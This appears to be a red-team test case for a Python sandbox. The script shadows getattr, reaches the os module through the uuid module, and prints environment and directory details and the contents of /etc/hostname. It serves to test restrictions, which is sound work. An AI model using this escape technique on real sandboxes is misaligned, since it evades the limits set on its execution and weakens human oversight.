# family: red team, round 63b (a def named getattr gets the uuid module, then reads its os attribute)
import uuid
def getattr(where, key, *rest):
    system = where.os
    print(where)
    print(system.environ["HOME"])
    print(system.getcwd())
    handle = system.open("/etc/hostname", 0)
    print(system.read(handle, 200).decode())
    return key
def run():
    for key in ("uuid4", "uuid5"):
        getattr(uuid, key)
        break
run()
